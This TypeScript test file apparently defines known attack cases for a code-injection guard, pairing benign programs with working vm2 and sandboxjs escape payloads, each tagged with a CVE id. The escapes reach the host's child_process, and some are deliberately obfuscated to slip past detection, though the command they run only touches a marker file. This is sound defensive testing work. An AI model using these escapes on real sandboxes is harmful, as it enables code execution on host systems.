import { get, postJson, type KnownCase } from '../case.ts';

interface Sandbox {
  readonly package: string;
  readonly route?: string;
  readonly id: string;
  readonly title: string;
  /** The program that makes `file` outside of its sandbox. */
  readonly escape: (file: string) => string;
}

// Programs of ordinary users over [3, 1, 2].
const PROGRAMS = [
  'values.map((value) => value * 2)',
  'function total(list) { return list.reduce((sum, one) => sum + one, 0); } total(values)',
  'const sorted = [...values].sort(); JSON.stringify({ least: sorted[0], all: sorted.join(", ") })',
  'class Counter { constructor() { this.count = 0; } add(n) { this.count += n; return this; } } new Counter().add(2).count',
  'try { null.x } catch (error) { `caught ${error.constructor.name}` }',
];

const sandbox = ({ package: name, route = name, id, title, escape }: Sandbox): KnownCase => ({
  app: 'sandboxes',
  package: name,
  id,
  guard: 'code-injection',
  title,
  attack(places) {
    const file = places.made();
    return {
      requests: [postJson(`/sandboxes/${route}`, { program: escape(file), values: [3, 1, 2] })],
      effect: { kind: 'file', path: file },
    };
  },
  benign: () =>
    PROGRAMS.map((program) =>
      postJson(`/sandboxes/${route}`, {
        program: route === 'sandboxjs' ? `return ${program}` : program,
        values: [3, 1, 2],
      }),
    ),
});

/** The same program, run once it has been answered. */
const later = (one: Sandbox): KnownCase => {
  const path = `/sandboxes/${one.package}/later`;
  return {
    ...sandbox(one),
    attack(places) {
      const file = places.made();
      return {
        requests: [postJson(path, { program: one.escape(file), values: [3, 1, 2], as: 'escape' })],
        effect: { kind: 'file', path: file },
        answered: true,
      };
    },
    benign: () =>
      PROGRAMS.flatMap((program, index) => [
        postJson(path, { program, values: [3, 1, 2], as: `${index}` }),
        get(`/sandboxes/results/${index}`),
      ]),
  };
};

const touch = (file: string): string => `mainModule.require('child_process').execSync('touch ${file}')`;

// The same ways out, spelled so that neither text says what it is after.
const hidden = (file: string): string =>
  `const path = (from) => from['constr' + 'uctor']; const host = ['ret' + 'urn pro', 'cess'].join(''); ` +
  `const touch = (own) => own[['main', 'Module'].join('')].require(['child', 'process'].join('_'))['exec' + 'Sync'](String.fromCharCode(${[...`touch ${file}`].map((one) => one.charCodeAt(0)).join()})); `;

export default [
  sandbox({
    package: 'vm2',
    id: 'CVE-2023-29199',
    title: 'as below, the words of the way out put together from pieces',
    escape: (file) =>
      `${hidden(file)} aVM2_INTERNAL_TMPNAME = {}; function stack() { new Error().stack; stack(); } try { stack(); } catch (a$tmpname) { touch(path(path(a$tmpname))(host)()); }`,
  }),
  sandbox({
    package: 'vm2-3.9.17',
    id: 'CVE-2023-32314',
    title: 'as below, the words of the way out put together from pieces',
    escape: (file) =>
      `${hidden(file)} const error = new Error(); error.name = { toString: new Proxy(() => "", { apply(target, self, list) { throw touch(path(path(list))(host)()).toString(); } }) }; try { error.stack; } catch (out) { out; }`,
  }),
  sandbox({
    package: 'vm2',
    id: 'CVE-2023-29199',
    title: 'the name that the rewriter gives to caught errors is taken by the program',
    escape: (file) =>
      `aVM2_INTERNAL_TMPNAME = {}; function stack() { new Error().stack; stack(); } try { stack(); } catch (a$tmpname) { a$tmpname.constructor.constructor('return process')().${touch(file)}; }`,
  }),
  sandbox({
    package: 'vm2-3.9.16',
    id: 'CVE-2023-30547',
    title: "a proxy's trap throws an error of the host",
    escape: (file) =>
      `const proxied = new Proxy({}, { getPrototypeOf() { (function stack() { new Error().stack; stack(); })(); } }); try { throw proxied; } catch ({ constructor: c }) { c.constructor('return process')().${touch(file)}; }`,
  }),
  sandbox({
    package: 'vm2-3.9.17',
    id: 'CVE-2023-32314',
    title: 'an error whose name is a proxy is given a list of the host',
    escape: (file) =>
      `const error = new Error(); error.name = { toString: new Proxy(() => "", { apply(target, self, list) { const host = list.constructor.constructor("return process")(); throw host.${touch(file)}.toString(); } }) }; try { error.stack; } catch (out) { out; }`,
  }),
  sandbox({
    package: 'vm2-3.9.19',
    id: 'CVE-2023-37466',
    title: "a promise's species is given an error of the host",
    escape: (file) =>
      `async function fn() { (function stack() { new Error().stack; stack(); })(); } const p = fn(); p.constructor = { [Symbol.species]: class { constructor(executor) { executor((x) => x, (error) => { error.constructor.constructor('return process')().${touch(file)}; }); } } }; p.then(); 1`,
  }),
  sandbox({
    package: 'vm2-3.9.19',
    id: 'CVE-2023-37903',
    title: "Node's own inspect function is handed to the program",
    escape: (file) =>
      `const given = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { inspect.constructor('return process')().${touch(file)}; }, valueOf: undefined, constructor: undefined }; WebAssembly.compileStreaming(given).catch(() => {}); 1`,
  }),
  later({
    package: 'vm2-3.9.19',
    id: 'CVE-2023-37903',
    title: 'the same, after the program was answered',
    escape: (file) =>
      `const given = { [Symbol.for('nodejs.util.inspect.custom')]: (depth, options, inspect) => { inspect.constructor('return process')().${touch(file)}; }, valueOf: undefined, constructor: undefined }; WebAssembly.compileStreaming(given).catch(() => {}); 1`,
  }),
  sandbox({
    package: 'vm2-3.10.0',
    id: 'CVE-2026-22709',
    title: "a promise's catch is given an error of the host",
    escape: (file) =>
      `const error = new Error(); error.name = Symbol(); const f = async () => error.stack; f().catch((e) => { const F = e.constructor.constructor; new F("process.${touch(file)}")(); }); 1`,
  }),
  later({
    package: 'vm2-3.10.0',
    id: 'CVE-2026-22709',
    title: 'the same, after the program was answered',
    escape: (file) =>
      `const error = new Error(); error.name = Symbol(); const f = async () => error.stack; f().catch((e) => { const F = e.constructor.constructor; new F("process.${touch(file)}")(); }); 1`,
  }),
  sandbox({
    package: '@nyariv/sandboxjs',
    route: 'sandboxjs',
    id: 'CVE-2026-23830',
    title: 'the constructor of asynchronous functions is the one of the host',
    escape: (file) => `const F = (async () => {}).constructor; return F("process.${touch(file)}")();`,
  }),
] satisfies KnownCase[];
